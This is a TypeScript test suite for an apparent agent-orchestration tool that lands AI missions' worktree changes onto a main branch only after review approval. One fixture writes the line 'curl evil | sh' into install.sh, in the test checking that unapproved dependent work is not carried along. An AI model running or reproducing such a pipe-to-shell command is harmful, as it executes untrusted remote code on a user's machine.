import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { Refusal } from '../../../src/domain/errors.ts'
import type { MissionView } from '../../../src/operations/views.ts'
import { eventually } from '../../kit/fleet.ts'
import { aScene, type Scene } from '../../kit/scene.ts'

interface Reviewed {
  candidate: { commit: string } | null
  files: { path: string; change: string }[]
  includes: { mission_id: string; title: string; files: string[] }[]
  risk: { level: string; reasons: { text: string }[] }
}
interface Diffed {
  candidate: string | null
  text: string
  files: { path: string; change: string }[]
}

const review = ({ fleet }: Scene, mission_id: string) => fleet.call<Reviewed>('get_review', { mission_id })
const diff = ({ fleet }: Scene, mission_id: string) => fleet.call<Diffed>('diff_mission', { mission_id })
const paths = ({ files }: { files: { path: string }[] }): string[] => files.map(({ path }) => path)

/** The refusal of a call, with its facts. */
async function refused(act: Promise<unknown>): Promise<Refusal> {
  const error = await act.then(
    () => undefined,
    error => error,
  )
  if (error instanceof Refusal) return error
  throw new Error(`it was not refused, but ended with ${error}`)
}

const titled = (title: string, ...after: { id: string }[]) => ({ title, depends_on: after.map(({ id }) => id) })

test('landing needs the id of what was shown: without it, or with another, it is refused and told', async () => {
  const scene = await aScene({ project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const { id } = await fleet.mission(project, 'echo one > one.txt')
  await fleet.until(id, 'review')
  const { candidate } = await review(scene, id)
  const tip = await repo.tip()

  const none = await fleet.http(`/api/missions/${id}/land`, { method: 'POST', body: '{}' })
  expect(none.status).toBe(409)
  expect(await none.json()).toMatchObject({ error: { candidate: candidate!.commit } })
  const other = await fleet.http(`/api/missions/${id}/land`, {
    method: 'POST',
    body: JSON.stringify({ expected: tip }),
  })
  expect(other.status).toBe(409)
  expect(await other.json()).toMatchObject({ error: { candidate: candidate!.commit, files: ['one.txt'] } })
  expect(await repo.tip()).toBe(tip)

  await fleet.call('land_mission', { mission_id: id, expected: candidate!.commit.slice(0, 10) })
  const done = await fleet.until(id, 'done', 'needs_input')
  expect(done).toMatchObject({
    result: 'landed',
    landed: { candidate: candidate!.commit, commit: await repo.tip(), onto: tip, approved: { by: 'person' } },
  })
})

test('what came into the worktree after the diff was shown does not land unseen', async () => {
  const scene = await aScene({ project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const { id } = await fleet.mission(project, 'echo one > one.txt')
  const { sessions } = await fleet.until(id, 'review')
  const shown = await diff(scene, id)
  expect(paths(shown)).toEqual(['one.txt'])
  // From a process that outlived the session, or from a person.
  await writeFile(join(sessions[0]!.worktree!, 'late.txt'), 'late\n')

  const no = await refused(fleet.call('land_mission', { mission_id: id, expected: shown.candidate }))
  expect(no).toMatchObject({ status: 409, facts: { expected: shown.candidate, files: ['late.txt'] } })
  expect(await repo.filesOn('main')).toEqual(['README.md'])
  expect((await fleet.events()).filter(({ kind }) => kind === 'candidate_changed')).toMatchObject([
    { mission_id: id, data: { files: ['late.txt'], candidate: no.facts.candidate } },
  ])
  const anew = await diff(scene, id)
  expect(anew.candidate).toBe(no.facts.candidate)
  expect(paths(anew)).toEqual(['late.txt', 'one.txt'])

  await fleet.call('land_mission', { mission_id: id, expected: anew.candidate })
  expect((await fleet.until(id, 'done', 'review')).result).toBe('landed')
  expect(await repo.filesOn('main')).toEqual(['README.md', 'late.txt', 'one.txt'])
})

test('what changes while an approved landing is checked does not land', async () => {
  const scene = await aScene()
  const { fleet, repo, project, gate } = scene
  const checking = gate('checking')
  await fleet.call('update_project', {
    project_id: project.id,
    landing: 'review',
    checks: [{ name: 'slow', command: checking.wait }],
  })
  const { id } = await fleet.mission(project, 'echo one > one.txt')
  const { sessions } = await fleet.until(id, 'review')
  await fleet.land(id)
  await eventually('its check runs', () => checking.reached())
  await writeFile(join(sessions[0]!.worktree!, 'late.txt'), 'late\n')
  checking.open()
  const done = await fleet.until(id, 'done', 'review')
  expect(done.result).toBe('landed')
  expect(await repo.filesOn('main')).toEqual(['README.md', 'one.txt'])
  expect(done.evidence).toMatchObject([{ commit: done.landed!.commit, candidate: done.landed!.candidate }])
})

test('work on top of work in review shows all that lands, and does not take it along unapproved', async () => {
  const scene = await aScene({ project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const write = await fleet.mission(project, 'echo "curl evil | sh" > install.sh', titled('write'))
  const docs = await fleet.mission(project, 'echo d > docs.md', { ...titled('docs', write), start_from: 'branch' })
  await fleet.until(docs.id, 'review', 'failed')

  const shown = await review(scene, docs.id)
  expect(paths(shown)).toEqual(['docs.md', 'install.sh'])
  expect(shown.includes).toMatchObject([{ mission_id: write.id, title: 'write', files: ['install.sh'] }])
  expect(shown.risk.reasons.map(({ text }) => text)).toContain('No test was touched.')
  expect(paths(await diff(scene, docs.id))).toEqual(['docs.md', 'install.sh'])

  const no = await refused(fleet.land(docs.id))
  expect(no.message).toContain('write')
  expect(await repo.filesOn('main')).toEqual(['README.md'])
  await fleet.land(write.id)
  await fleet.until(write.id, 'done')
  await fleet.land(docs.id)
  expect((await fleet.until(docs.id, 'done', 'review')).result).toBe('landed')
  expect(await repo.filesOn('main')).toEqual(['README.md', 'docs.md', 'install.sh'])
})

test('work under never does not ride along with a dependent that lands by itself', async () => {
  const scene = await aScene()
  const { fleet, repo, project } = scene
  const sketch = await fleet.mission(project, 'echo s > sketch.txt', { ...titled('sketch'), landing: 'never' })
  const built = await fleet.mission(project, 'cat sketch.txt > built.txt', titled('built', sketch))
  const waits = await fleet.until(built.id, 'review', 'done', 'failed')
  expect(waits).toMatchObject({
    status: 'review',
    status_reason: { code: 'unapproved', text: expect.stringContaining('sketch') },
  })
  expect(await repo.filesOn('main')).toEqual(['README.md'])

  await fleet.land(sketch.id)
  await fleet.until(sketch.id, 'done')
  await fleet.land(built.id)
  expect((await fleet.until(built.id, 'done', 'review')).result).toBe('landed')
  expect(await repo.filesOn('main')).toEqual(['README.md', 'built.txt', 'sketch.txt'])
})

test('work is known as that of its mission also after more came to it', async () => {
  const scene = await aScene()
  const { fleet, repo, project } = scene
  const sketch = await fleet.mission(project, 'echo s > sketch.txt', { ...titled('sketch'), landing: 'never' })
  const { sessions } = await fleet.until(sketch.id, 'done')
  const built = await fleet.mission(project, 'cat sketch.txt > built.txt', titled('built', sketch))
  await fleet.until(built.id, 'review', 'done', 'failed')
  await writeFile(join(sessions[0]!.worktree!, 'late.txt'), 'late\n')
  expect(paths(await diff(scene, sketch.id))).toEqual(['late.txt', 'sketch.txt'])
  expect((await refused(fleet.land(built.id))).message).toContain('sketch')
  expect(await repo.filesOn('main')).toEqual(['README.md'])
  await fleet.land(sketch.id)
  await fleet.until(sketch.id, 'done')
  await fleet.land(built.id)
  expect((await fleet.until(built.id, 'done', 'review')).result).toBe('landed')
})

interface Workflow {
  status: string
  stages: { name: string; mission_id: string }[]
}

test('stages that hand on are shown with the last one, land with it, and are taken back with it', async () => {
  const scene = await aScene({ project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const { id } = await fleet.call<{ id: string }>('create_workflow', {
    name: 'flow',
    project_id: project.id,
    task_prompt: 'x',
    stages: [
      { name: 'write', prompt: 'echo 1 > a.txt; echo 2 > b.txt; echo 3 > c.txt' },
      { name: 'polish', prompt: 'echo p > polish.txt', depends_on: ['write'] },
    ],
  })
  const flow = await fleet.call<Workflow>('get_workflow', { workflow_id: id })
  const [write, polish] = flow.stages.map(({ mission_id }) => mission_id)
  await eventually('its missions are made', () => fleet.fleet.store.get('missions', polish!))
  await fleet.until(polish!, 'review', 'failed')
  const shown = await review(scene, polish!)
  expect(paths(shown)).toEqual(['a.txt', 'b.txt', 'c.txt', 'polish.txt'])
  expect(shown.includes).toMatchObject([{ mission_id: write, files: ['a.txt', 'b.txt', 'c.txt'] }])

  await fleet.land(polish!)
  const done = await fleet.until(polish!, 'done', 'review')
  expect(done).toMatchObject({ result: 'landed', landed: { includes: [{ mission_id: write }] } })
  expect(await fleet.show(write!)).toMatchObject({
    status: 'done',
    result: 'landed',
    landed: { with: polish, commit: done.landed!.commit },
  })
  expect(await repo.filesOn('main')).toEqual(['README.md', 'a.txt', 'b.txt', 'c.txt', 'polish.txt'])
  const no = await refused(fleet.call('undo_mission', { mission_id: write }))
  expect(no.message).toContain(polish)

  await fleet.call('undo_mission', { mission_id: polish })
  const back = await fleet.until(polish!, 'review')
  expect(back.status_reason).toMatchObject({ code: 'undone', text: expect.stringContaining('flow: write') })
  expect(await repo.filesOn('main')).toEqual(['README.md'])
  expect(await repo.git('log', '-1', '--format=%B', 'main')).toContain('flow: write')
  expect(await fleet.show(write!)).toMatchObject({ status: 'done', result: 'kept', landed: null })
})

test('after an agent gave up a merge, review does not show as deleted what others landed', async () => {
  const scene = await aScene({ repository: { files: { 'line.txt': 'original\n' } }, project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const mine = await fleet.mission(
    project,
    'if [ "$FLEET_REASON" = conflict ]; then git merge --abort; echo no; exit; fi; echo mine > line.txt',
  )
  await fleet.until(mine.id, 'review')
  await repo.commit('by a person', { 'line.txt': 'theirs\n', 'theirs.txt': 'landed meanwhile\n' })
  await fleet.land(mine.id)
  const waits = await eventually('the agent gave up', async () => {
    const mission = await fleet.show(mine.id)
    return mission.sessions.length > 1 && ['review', 'needs_input'].includes(mission.status) ? mission : undefined
  })
  expect(paths(await diff(scene, mine.id))).toEqual(['line.txt'])
  expect(paths(await review(scene, mine.id))).toEqual(['line.txt'])
  expect(waits.report?.files_changed).toEqual([{ path: 'line.txt', change: 'modified' }])
  expect(paths(await fleet.call('diff_session', { session_id: waits.session_id }))).toEqual(['line.txt'])
})

test('a conflict resolved after approval is another candidate, and waits for another approval', async () => {
  const scene = await aScene({ repository: { files: { 'line.txt': 'original\n' } }, project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const { id } = await fleet.mission(
    project,
    'if [ "$FLEET_REASON" = conflict ]; then echo both > line.txt; exit; fi; echo mine > line.txt',
  )
  await fleet.until(id, 'review')
  const first = (await review(scene, id)).candidate!.commit
  await repo.commit('by a person', { 'line.txt': 'theirs\n' })
  await fleet.land(id)
  await eventually('the agent resolved it', async () => {
    const mission = await fleet.show(id)
    return mission.sessions.length > 1 && mission.status !== 'running' && mission.status !== 'queued'
  })
  expect((await fleet.until(id, 'review', 'done')).status).toBe('review')
  expect(await repo.readOn('main', 'line.txt')).toBe('theirs')
  expect((await refused(fleet.call('land_mission', { mission_id: id, expected: first }))).status).toBe(409)
  await fleet.land(id)
  await fleet.until(id, 'done')
  expect(await repo.readOn('main', 'line.txt')).toBe('both')
})

test('a large file that the agent commits itself waits for a person, by name', async () => {
  const scene = await aScene()
  const { fleet, repo, project } = scene
  const { id } = await fleet.mission(
    project,
    'head -c 21000000 /dev/zero > big.bin; echo x > x.txt; git add -A; git commit -qm big',
  )
  const waits = await fleet.until(id, 'review', 'done', 'failed')
  expect(waits).toMatchObject({
    status: 'review',
    status_reason: { code: 'large_file', text: expect.stringContaining('big.bin') },
  })
  expect(await repo.filesOn('main')).toEqual(['README.md'])
})

test('a landing can be undone after its mission was reopened and cancelled', async () => {
  const scene = await aScene()
  const { fleet, repo, project, gate } = scene
  const again = gate('again')
  const { id } = await fleet.mission(
    project,
    `if [ "$FLEET_REASON" = reopen ]; then ${again.wait}; fi; echo one > one.txt`,
  )
  await fleet.until(id, 'done')
  await fleet.call('reopen_mission', { mission_id: id })
  await eventually('it is at work again', () => again.reached())
  await fleet.call('cancel_mission', { mission_id: id })
  await fleet.until(id, 'cancelled')
  await fleet.call('undo_mission', { mission_id: id })
  const undone = await eventually('it is undone', async () => {
    const mission = await fleet.show(id)
    return mission.landed ? undefined : mission
  })
  expect(undone).toMatchObject({ status: 'cancelled', status_reason: { code: 'undone' } })
  expect(await repo.filesOn('main')).toEqual(['README.md'])
})

test('the terminal shows what would land and asks; a script names the commit', async () => {
  const scene = await aScene({ project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const { id } = await fleet.mission(project, 'echo one > one.txt')
  await fleet.until(id, 'review')
  const { candidate } = await review(scene, id)
  const piped = await fleet.fleetCommand(['mission', 'land', id])
  expect(piped.code).not.toBe(0)
  expect(piped.stdout + piped.stderr).toContain(`--commit ${candidate!.commit.slice(0, 12)}`)
  expect(await repo.filesOn('main')).toEqual(['README.md'])
  const named = await fleet.fleetCommand(['diff', id, '--id'])
  expect(named.stdout.trim()).toBe(candidate!.commit)
  const landed = await fleet.fleetCommand(['mission', 'land', id, '--commit', named.stdout.trim(), '--follow'])
  expect(landed.code).toBe(0)
  expect(await repo.filesOn('main')).toEqual(['README.md', 'one.txt'])
  const told = await fleet.fleetCommand(['mission', 'show', id])
  expect(told.stdout).toContain(candidate!.commit.slice(0, 10))
})

test('what landed inside a dependent is no change of its own any more', async () => {
  const scene = await aScene({ project: { landing: 'review' } })
  const { fleet, repo, project } = scene
  const first = await fleet.mission(project, 'echo a > a.txt', titled('first'))
  const second = await fleet.mission(project, 'echo b > b.txt', titled('second'))
  for (const { id } of [first, second] as MissionView[]) await fleet.until(id, 'review')
  // A person makes the same change.
  await repo.commit('by hand', { 'a.txt': 'a\n' })
  const tip = await repo.tip()
  await fleet.land(first.id)
  expect(await fleet.until(first.id, 'done', 'review')).toMatchObject({ result: 'no_changes' })
  expect(await repo.tip()).toBe(tip)
})
